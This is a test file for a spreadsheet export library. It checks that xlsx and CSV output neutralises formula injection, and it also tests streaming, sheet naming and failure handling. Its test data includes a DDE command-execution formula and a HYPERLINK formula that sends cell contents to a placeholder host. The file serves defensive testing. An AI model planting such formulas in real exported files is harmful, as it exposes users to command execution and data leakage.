import type { Readable } from 'node:stream';
import { buffer, text } from 'node:stream/consumers';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { readSheet } from './read-sheet';
import { type OutputCell, writeCsv, writeXlsx } from './write-sheet';

/** What a spreadsheet program might run. */
const injections = [
  '=HYPERLINK("http://example.test/?"&A1,"点击")',
  "=cmd|' /C calc'!A0",
  '+86 13800000000',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  ' =1+1',
];

const columns = [{ head: '标题' }, { head: '增减', width: 10 }];
const sheetOf = (rows: readonly (readonly OutputCell[])[]) => ({ name: '信息', columns, rows });

async function loaded(stream: Readable): Promise<ExcelJS.Worksheet> {
  const bytes = new Uint8Array(await buffer(stream));
  const workbook = await new ExcelJS.Workbook().xlsx.load(bytes.buffer);
  const [sheet] = workbook.worksheets;
  if (!sheet) throw new Error('no sheet');
  return sheet;
}

describe('a workbook', () => {
  it.each(injections)('holds %j as text, also once somebody edits the cell', async (words) => {
    const cell = (await loaded(writeXlsx(sheetOf([[words, -5]])))).getCell('A2');
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.formula).toBeUndefined();
    expect(String(cell.value).replace(/[\r\n]/g, '')).toBe(words.replace(/[\r\n]/g, ''));
    expect(cell.numFmt).toBe('@');
  });

  it('keeps numbers as numbers, and its headings bold and in sight', async () => {
    const sheet = await loaded(
      writeXlsx(
        sheetOf([
          ['通知', -5],
          [null, 0.5],
        ]),
      ),
    );
    expect(sheet.getCell('B2').value).toBe(-5);
    expect(sheet.getCell('A3').value).toBeNull();
    expect(sheet.getCell('A1').font).toMatchObject({ bold: true });
    expect(sheet.views).toMatchObject([{ state: 'frozen', ySplit: 1 }]);
    expect(sheet.getColumn(2).width).toBe(10);
  });

  it('leaves out characters that would spoil the file, and names its sheet as Excel allows', async () => {
    const sheet = await loaded(writeXlsx({ ...sheetOf([['一\u0000\u000b二', 1]]), name: '2025/3: 信息[1]' }));
    expect(sheet.getCell('A2').value).toBe('一二');
    expect(sheet.name).toBe('2025 3  信息 1 ');
  });

  it('of 8,000 rows leaves while the later ones are still being read', async () => {
    let read = 0;
    const rows = (async function* () {
      for (; read < 8_000; read += 1) yield [`第 ${read} 件`, read];
    })();
    const stream = writeXlsx({ name: '信息', columns, rows });
    await new Promise((resolve) => stream.once('readable', resolve));
    expect(read).toBeLessThan(8_000);
    const sheet = await loaded(stream);
    expect(sheet.rowCount).toBe(8_001);
    expect(sheet.getCell('A8001').value).toBe('第 7999 件');
  });

  it.each([writeXlsx, writeCsv])('whose rows fail half-way does not end as if it were whole', async (write) => {
    const rows = (async function* () {
      yield ['一', 1];
      throw new Error('database away');
    })();
    await expect(buffer(write({ name: '信息', columns, rows }))).rejects.toThrow('database away');
  });
});

describe('text with commas', () => {
  it('has a byte order mark, CRLF, and an apostrophe before what could be a formula', async () => {
    const written = await text(
      writeCsv(
        sheetOf([
          ['-2+3', -5],
          ['有,逗号"引号"\n换行', null],
        ]),
      ),
    );
    // The consumer takes the mark off.
    expect(written.replace(/^\ufeff/, '')).toBe(`标题,增减\r\n'-2+3,-5\r\n"有,逗号""引号""\n换行",\r\n`);
    const bytes = await buffer(writeCsv(sheetOf([])));
    expect(bytes.subarray(0, 3)).toEqual(Buffer.from('efbbbf', 'hex'));
  });

  it.each(injections)('brings %j back as it was', async (words) => {
    const read = await readSheet(new Uint8Array(await buffer(writeCsv(sheetOf([[words, 1]])))), '信息.csv');
    expect(read.ok && read.value.rows).toEqual([{ number: 2, cells: [words.trim(), '1'] }]);
  });
});
